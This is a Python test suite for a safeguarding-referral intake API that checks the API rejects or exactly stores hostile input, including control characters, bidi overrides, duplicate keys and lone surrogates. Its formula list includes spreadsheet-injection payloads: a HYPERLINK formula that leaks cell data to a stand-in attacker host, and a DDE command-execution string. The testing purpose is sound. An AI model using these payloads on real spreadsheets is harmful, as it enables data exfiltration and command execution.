"""Hostile text at intake (issue 12, item 2): what a careless integrator or an attacker
puts in a report, through the HTTP API.

Names, references and free text refuse control characters and bidirectional overrides
with a 422 naming the field (free text keeps its tabs and line breaks); a body that
gives a key twice is a 400, never "last one wins"; a boolean is a JSON `true` or
`false`; half a surrogate pair and non-finite numbers are refused; text that looks like
a spreadsheet formula is stored and served back exactly as given (intake writes no
spreadsheet). One property-based test per input (a report, a JSON batch, a CSV batch)
puts hostile strings in a valid report: the answer is a 4xx problem (and nothing was
written) or a success that stored the value exactly, never a 500.
"""

from __future__ import annotations

import copy
import itertools
import json
from typing import Annotated, Any

import pytest
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from pydantic import StringConstraints, TypeAdapter
from sqlalchemy import func, select

from services.intake.models import Report
from shared.db import table_of
from shared.outbox import OutboxMessage
from shared.text import forbidden_character
from tests.security.hostile import hostile_text
from tests.services.conftest import Signpost, bearer
from tests.services.conftest import signpost as signpost  # the embedded app, as a fixture
from tests.services.intake.conftest import example, police_key, school_key

Path = tuple[str | int, ...]

PROPERTY = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# What the report model does to surrounding whitespace before it checks and stores text.
_TRIMMED = TypeAdapter(Annotated[str, StringConstraints(strip_whitespace=True)])
_references = itertools.count()

# Values a spreadsheet would run as a formula, or that start with a formula prefix.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=1+2",
    "+441392000000",
    "-DP-2026-0001",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]
SURROGATES = ["\ud800", "\udbff", "\udc00", "\udfff"]


def hostile() -> st.SearchStrategy[str]:
    """Control and bidi characters, formula prefixes, any Unicode, half a surrogate
    pair, and strings at and beyond each field's size limit."""
    return st.one_of(
        hostile_text(min_size=0, max_size=40),
        st.sampled_from(FORMULAS),
        st.builds(
            lambda before, half, after: before + half + after,
            hostile_text(min_size=0, max_size=8),
            st.sampled_from(SURROGATES),
            hostile_text(min_size=0, max_size=8),
        ),
        st.builds(
            lambda char, size: char * size,
            st.sampled_from(["x", "=", "é", "\u202e", " "]),
            st.sampled_from([63, 64, 65, 100, 101, 300, 301, 1000, 1001, 2001]),
        ),
    )


def at(node: Any, path: Path) -> Any:
    for part in path:
        node = node[part]
    return node


def put(body: dict[str, Any], path: Path, value: Any) -> dict[str, Any]:
    at(body, path[:-1])[path[-1]] = value
    return body


def dotted(path: Path) -> str:
    return ".".join(str(p) for p in path)


def as_json(body: Any) -> bytes:
    # ensure_ascii: half a surrogate pair travels as its escape (\ud800), as JSON allows.
    return json.dumps(body, ensure_ascii=True).encode()


async def post_json(sp: Signpost, url: str, key: str, content: bytes) -> Any:
    return await sp.client.post(
        url, content=content, headers={**bearer(key), "content-type": "application/json"}
    )


async def written(sp: Signpost) -> tuple[int, int]:
    """How many reports intake stored and how many events it staged (any topic)."""
    ctx = sp.app.state.runtimes["intake"].ctx
    reports, outbox = table_of(Report), table_of(OutboxMessage)
    async with ctx.db.engine.connect() as conn:
        stored = await conn.scalar(select(func.count()).select_from(reports))
        staged = await conn.scalar(select(func.count()).select_from(outbox))
    return int(stored or 0), int(staged or 0)


async def stored_payload(sp: Signpost, referral_id: str) -> dict[str, Any]:
    ctx = sp.app.state.runtimes["intake"].ctx
    async with ctx.db.session() as session:
        report = await session.get(Report, referral_id)
    assert report is not None
    return report.payload


def is_problem(answer: Any) -> bool:
    return answer.headers["content-type"] == "application/problem+json"


def police_da_report() -> dict[str, Any]:
    body = copy.deepcopy(example("police-domestic-abuse-report.json"))
    body["source"]["reference"] = f"DP-H-{next(_references)}"
    return body


def school_report() -> dict[str, Any]:
    body = copy.deepcopy(example("school-upn-report.json"))
    body["source"]["reference"] = f"CPOMS-H-{next(_references)}"
    return body


# --- control characters and bidirectional overrides -------------------------------


async def test_a_nul_in_the_childs_given_name_is_a_422_naming_the_field(
    signpost: Signpost,
) -> None:
    key = await police_key(signpost)
    body = put(police_da_report(), ("child", "given_name"), "Ma\x00ya")
    answer = await signpost.client.post("/v1/reports", json=body, headers=bearer(key))
    assert answer.status_code == 422, answer.text
    assert is_problem(answer)
    [error] = answer.json()["errors"]
    assert (error["field"], error["pointer"], error["type"]) == (
        "child.given_name",
        "/child/given_name",
        "forbidden_character",
    )
    assert error["message"] == "must not contain a control character (U+0000)"
    assert await written(signpost) == (0, 0)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("child", "family_name"), "Smith\u202e"),
        (("source", "reference"), "DP-\u2066-1"),
        (("police", "incident_reference"), "INC\x1b[31m"),
        (("police", "officer", "name"), "PC\nSam"),
        (("narrative",), "What happened \x00 next"),
        (("concerns", 0, "detail"), "Detail \u202d reversed"),
        (("household", 1, "given_name"), "D\x7fan"),
    ],
)
async def test_hostile_characters_in_names_references_and_free_text_are_422s_naming_the_field(
    signpost: Signpost, path: Path, value: str
) -> None:
    key = await police_key(signpost)
    answer = await signpost.client.post(
        "/v1/reports", json=put(police_da_report(), path, value), headers=bearer(key)
    )
    assert answer.status_code == 422, answer.text
    assert [e["field"] for e in answer.json()["errors"]] == [dotted(path)]
    assert await written(signpost) == (0, 0)


async def test_free_text_keeps_its_paragraphs(signpost: Signpost) -> None:
    key = await police_key(signpost)
    narrative = "Officers attended at 23:10.\r\n\tThe mother said:\n'not again'."
    answer = await signpost.client.post(
        "/v1/reports",
        json=put(police_da_report(), ("narrative",), narrative),
        headers=bearer(key),
    )
    assert answer.status_code == 202, answer.text
    assert (await stored_payload(signpost, answer.json()["referral_id"]))["narrative"] == narrative


# --- duplicate keys ------------------------------------------------------------------


def with_kind_twice(body: dict[str, Any]) -> bytes:
    """The body with `source.kind` given twice: a school's, then the police's."""
    text = json.dumps(body)
    twice = text.replace('"kind": "police"', '"kind": "school", "kind": "police"', 1)
    assert twice != text
    return twice.encode()


async def test_a_report_giving_a_key_twice_is_a_400_naming_it(signpost: Signpost) -> None:
    key = await police_key(signpost)
    answer = await post_json(signpost, "/v1/reports", key, with_kind_twice(police_da_report()))
    assert answer.status_code == 400, answer.text
    assert is_problem(answer)
    problem = answer.json()
    assert problem["type"].endswith("/duplicate-key")
    assert (problem["key"], problem["pointer"]) == ("kind", "/source/kind")
    assert await written(signpost) == (0, 0)


async def test_a_batch_giving_a_key_twice_in_any_row_is_a_400_and_stores_no_row(
    signpost: Signpost,
) -> None:
    key = await school_key(signpost)
    second = school_report()
    text = json.dumps([school_report(), second])
    reference = second["source"]["reference"]
    twice = text.replace(
        f'"reference": "{reference}"', f'"reference": "X", "reference": "{reference}"'
    )
    answer = await post_json(signpost, "/v1/reports/batch", key, twice.encode())
    assert answer.status_code == 400, answer.text
    assert answer.json()["pointer"] == "/1/source/reference"
    assert await written(signpost) == (0, 0)


# --- booleans, numbers, surrogates ----------------------------------------------------


@pytest.mark.parametrize("value", ["yes", "true", "false", 1, 0, None])
async def test_immediate_risk_takes_only_a_json_boolean(signpost: Signpost, value: Any) -> None:
    key = await police_key(signpost)
    answer = await signpost.client.post(
        "/v1/reports", json=put(police_da_report(), ("immediate_risk",), value), headers=bearer(key)
    )
    assert answer.status_code == 422, answer.text
    assert [(e["field"], e["type"]) for e in answer.json()["errors"]] == [
        ("immediate_risk", "bool_type")
    ]
    assert await written(signpost) == (0, 0)


async def test_a_json_boolean_is_taken_as_given(signpost: Signpost) -> None:
    key = await police_key(signpost)
    answer = await signpost.client.post(
        "/v1/reports", json=put(police_da_report(), ("immediate_risk",), True), headers=bearer(key)
    )
    assert answer.status_code == 202, answer.text
    stored = await stored_payload(signpost, answer.json()["referral_id"])
    assert stored["immediate_risk"] is True


@pytest.mark.parametrize("number", [b"NaN", b"Infinity", b"-Infinity", b"1e999"])
async def test_a_number_that_is_not_finite_is_a_422_naming_the_field(
    signpost: Signpost, number: bytes
) -> None:
    key = await school_key(signpost)
    body = as_json(put(school_report(), ("school", "attendance_percent"), 12345.5))
    answer = await post_json(signpost, "/v1/reports", key, body.replace(b"12345.5", number))
    assert answer.status_code == 422, answer.text
    assert [e["field"] for e in answer.json()["errors"]] == ["school.attendance_percent"]
    assert await written(signpost) == (0, 0)


async def test_half_a_surrogate_pair_in_a_name_is_a_422_naming_it_not_a_500(
    signpost: Signpost,
) -> None:
    key = await police_key(signpost)
    body = as_json(put(police_da_report(), ("child", "given_name"), "Ma\ud800ya"))
    assert b"\\ud800" in body
    answer = await post_json(signpost, "/v1/reports", key, body)
    assert answer.status_code == 422, answer.text
    [error] = answer.json()["errors"]
    assert (error["field"], error["type"]) == ("child.given_name", "forbidden_character")
    assert await written(signpost) == (0, 0)


async def test_half_a_surrogate_pair_in_a_key_is_a_422_not_a_500(signpost: Signpost) -> None:
    key = await police_key(signpost)
    body = police_da_report()
    body["child"]["nick\udc00name"] = "M"
    answer = await post_json(signpost, "/v1/reports", key, as_json(body))
    assert answer.status_code == 422, answer.text
    assert answer.json()["errors"][0]["pointer"] == "/child/nick\\udc00name"
    batch = await post_json(
        signpost, "/v1/reports/batch", await school_key(signpost), as_json([body])
    )
    assert batch.status_code == 422, batch.text
    assert batch.json()["errors"][0]["pointer"] == "/0/child/nick\\udc00name"
    assert await written(signpost) == (0, 0)


# --- formula-like text ---------------------------------------------------------------

CSV_HEADER = (
    "source.reference,reported_at,child.given_name,child.family_name,child.date_of_birth,"
    "child.address.postcode,concerns,narrative,school.dsl.name,school.dsl.role,"
    "school.dsl.email\n"
)


def csv_cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def csv_line(cells: dict[str, str]) -> str:
    row = {
        "source.reference": f"CPOMS-C-{next(_references)}",
        "reported_at": "2026-11-26T15:05:00Z",
        "child.given_name": "Leo",
        "child.family_name": "Sample",
        "child.date_of_birth": "2014-09-02",
        "child.address.postcode": "EX4 6PX",
        "concerns": "young_carer",
        "narrative": "Often tired and hungry.",
        "school.dsl.name": "Jo Teacher",
        "school.dsl.role": "Designated Safeguarding Lead",
        "school.dsl.email": "dsl@demo-primary.sch.uk",
        **cells,
    }
    return ",".join(csv_cell(row[c]) for c in CSV_HEADER.strip().split(",")) + "\r\n"


async def post_csv(sp: Signpost, key: str, content: bytes) -> Any:
    return await sp.client.post(
        "/v1/reports/batch", content=content, headers={**bearer(key), "content-type": "text/csv"}
    )


async def test_formula_like_csv_cells_are_stored_and_served_back_exactly(
    signpost: Signpost,
) -> None:
    key = await school_key(signpost)
    narrative = FORMULAS[0]
    reference = "-CPOMS-0001"
    line = csv_line(
        {
            "source.reference": reference,
            "narrative": narrative,
            "school.dsl.name": "@Jo Teacher",
            "school.dsl.role": "+DSL",
        }
    )
    answer = await post_csv(signpost, key, (CSV_HEADER + line).encode())
    assert answer.status_code == 200, answer.text
    [accepted] = answer.json()["accepted"]
    view = await signpost.client.get(accepted["status_url"], headers=bearer(key))
    assert view.json()["source_reference"] == reference
    hub = await signpost.key("hub", "demoshire-hub", "referrals:read")
    read = await signpost.client.get(
        f"/v1/referrals/{accepted['referral_id']}/report", headers=bearer(hub)
    )
    assert read.status_code == 200, read.text
    report = read.json()["report"]
    assert report["narrative"] == narrative
    assert report["source"]["reference"] == reference
    assert (report["school"]["dsl"]["name"], report["school"]["dsl"]["role"]) == (
        "@Jo Teacher",
        "+DSL",
    )


# --- properties: hostile strings anywhere, never a 500, never a partial write ---------

REPORT_TEXT: list[Path] = [
    ("source", "reference"),
    ("child", "given_name"),
    ("child", "family_name"),
    ("concerns", 0, "detail"),
    ("narrative",),
    ("police", "incident_reference"),
    ("police", "location", "description"),
    ("police", "children_present", 0, "given_name"),
    ("police", "children_present", 1, "detail"),
    ("police", "officer", "name"),
    ("police", "officer", "role"),
    ("police", "circumstances"),
    ("household", 0, "family_name"),
    ("consent", "sharing_authorised_by", "reason"),
]
SCHOOL_TEXT: list[Path] = [
    ("source", "reference"),
    ("child", "given_name"),
    ("child", "family_name"),
    ("concerns", 1, "detail"),
    ("narrative",),
    ("school", "dsl", "name"),
    ("school", "dsl", "role"),
    ("household", 0, "given_name"),
]
CSV_TEXT = [
    "source.reference",
    "child.given_name",
    "child.family_name",
    "narrative",
    "school.dsl.name",
    "school.dsl.role",
]


def holds_surrogate(value: str) -> bool:
    return any("\ud800" <= c <= "\udfff" for c in value)


# The free-text fields (they may hold tab, CR and LF); every other field is one line.
FREE_TEXT = frozenset({"narrative", "detail", "description", "circumstances", "reason"})


def expected(value: str, path: Path) -> str:
    """What a stored value must be: exactly what was sent, surrounding whitespace
    trimmed (the report model trims before it checks), and only if it is text: no
    control character or bidirectional override, no half surrogate pair."""
    assert not holds_surrogate(value), "half a surrogate pair was accepted"
    trimmed: str = _TRIMMED.validate_python(value)
    assert forbidden_character(trimmed, multiline=path[-1] in FREE_TEXT) is None, (
        f"{dotted(path)} accepted {trimmed!r}"
    )
    return trimmed


@PROPERTY
@given(path=st.sampled_from(REPORT_TEXT), value=hostile(), as_key=st.booleans())
async def test_a_report_with_hostile_text_is_a_4xx_or_stored_exactly_never_a_500(
    signpost: Signpost, path: Path, value: str, as_key: bool
) -> None:
    key = await police_key(signpost)
    body = police_da_report()
    if as_key:  # the hostile string as an unknown member's name
        parent = at(body, path[:-1])
        assume(value not in parent)
        parent[value] = "x"
    else:
        put(body, path, value)
    before = await written(signpost)
    answer = await post_json(signpost, "/v1/reports", key, as_json(body))
    assert answer.status_code < 500, answer.text
    event(f"answered {answer.status_code}")
    if answer.status_code >= 400:
        assert is_problem(answer)
        assert await written(signpost) == before
        return
    assert not as_key, "an unknown member was accepted"
    assert answer.status_code == 202
    receipt = answer.json()
    stored = await stored_payload(signpost, receipt["referral_id"])
    assert at(stored, path) == expected(value, path)
    reports, events = await written(signpost)
    if receipt["duplicate_of"] is None:
        assert reports == before[0] + 1 and events > before[1]
    else:
        assert (reports, events) == before


@PROPERTY
@given(path=st.sampled_from(SCHOOL_TEXT), value=hostile())
async def test_a_json_batch_with_hostile_text_answers_each_row_and_stores_exactly(
    signpost: Signpost, path: Path, value: str
) -> None:
    key = await school_key(signpost)
    rows = [school_report(), put(school_report(), path, value)]
    before = await written(signpost)
    answer = await post_json(signpost, "/v1/reports/batch", key, as_json(rows))
    assert answer.status_code < 500, answer.text
    event(f"answered {answer.status_code}")
    if answer.status_code >= 400:
        assert is_problem(answer)
        assert await written(signpost) == before
        return
    await the_batch_answered_each_row(signpost, answer.json(), before, path, value)


@PROPERTY
@given(column=st.sampled_from(CSV_TEXT), value=hostile())
async def test_a_csv_batch_with_hostile_cells_answers_each_row_and_stores_exactly(
    signpost: Signpost, column: str, value: str
) -> None:
    key = await school_key(signpost)
    body = CSV_HEADER + csv_line({}) + csv_line({column: value})
    before = await written(signpost)
    # A surrogate cannot be UTF-8: it travels as the bytes a careless encoder writes.
    answer = await post_csv(signpost, key, body.encode("utf-8", "surrogatepass"))
    assert answer.status_code < 500, answer.text
    event(f"answered {answer.status_code}")
    if answer.status_code >= 400:
        assert is_problem(answer)
        assert await written(signpost) == before
        return
    path = tuple(column.split("."))
    # A CSV cell is trimmed of whitespace as it is read; an empty cell is no value.
    await the_batch_answered_each_row(signpost, answer.json(), before, path, value.strip())


async def the_batch_answered_each_row(
    sp: Signpost, result: dict[str, Any], before: tuple[int, int], path: Path, value: str
) -> None:
    """Both rows are answered; the clean row is kept; the hostile row is kept with its
    value exactly, or refused with errors located in it; only kept rows were written."""
    assert result["rows"] == 2
    assert [a["row"] for a in result["accepted"]][:1] == [0]
    for rejected in result["errors"]:
        assert rejected["row"] == 1
        assert rejected["errors"] and all(e["pointer"].startswith("/1") for e in rejected["errors"])
    event("hostile row kept" if len(result["accepted"]) == 2 else "hostile row refused")
    for accepted in result["accepted"]:
        if accepted["row"] == 1:
            stored = await stored_payload(sp, accepted["referral_id"])
            assert at(stored, path) == expected(value, path)
    new = sum(1 for a in result["accepted"] if a["duplicate_of"] is None)
    reports, events = await written(sp)
    assert (reports, events) == (before[0] + new, before[1] + new)
